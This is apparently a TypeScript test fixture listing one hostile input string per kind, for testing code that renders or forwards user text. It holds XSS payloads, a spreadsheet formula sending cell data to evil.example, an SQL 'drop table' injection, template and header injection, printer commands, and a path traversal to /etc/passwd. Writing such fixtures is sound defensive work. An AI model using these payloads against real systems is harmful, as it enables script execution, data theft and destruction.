/**
 * What a stranger may write into any field: one text of each kind, for tests of whatever shows, prints or sends what others have written.
 * None has NUL or half of a character, which no field keeps.
 */
export const hostileTexts: readonly (readonly [kind: string, text: string])[] = [
  ["markup", '"><img src=x onerror=alert(1)><script>alert(1)</script>'],
  ["an end of markup", "</title></textarea></style><svg/onload=alert(1)>"],
  ["an address of a script", "javascript:alert(1)"],
  ["escaped markup", "&lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3E \\u003cscript\\u003e"],
  ["a formula", '=HYPERLINK("http://evil.example?x="&A1,"Open")'],
  ["a formula behind a separator", 'x;=1+1,"@SUM(1)\t-2'],
  ["a text turned round", "invoice_\u202Egpj.exe\u202C \u2066abc\u2069"],
  ["letters from right to left", "محمد عبد الرحمن, שלום 14"],
  ["combining marks", `Z${"\u0351\u0317\u0489".repeat(40)}algo`],
  ["a very long text", "Wide ".repeat(2_000)],
  ["a very long word", "W".repeat(10_000)],
  ["control characters", "Ada\u0007\u001B[31m\u0008\u007F Quill\u0085"],
  ["ends of lines", "Ada\r\nBcc: victim@shop.example\r\n\r\nHello\u2028World"],
  ["a template", "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %> #{7*7} {0} %s %n"],
  ["a query", "'; drop table item; -- \\'"],
  ["commands of a printer", "^XA^FDEvil^FS^XZ~JA^PQ999"],
  ["a way out of a folder", "../../../etc/passwd\\..\\..\\con.pdf"],
  ["the name of a member", "__proto__"],
  ["signs of many parts", "👩‍👩‍👧‍👦🏳️‍🌈 \u200B\uFEFF\u00AD 田中 Łódź"],
  ["a query of JSON", '{"$gt":""}]}\',"a":[1e999]'],
]
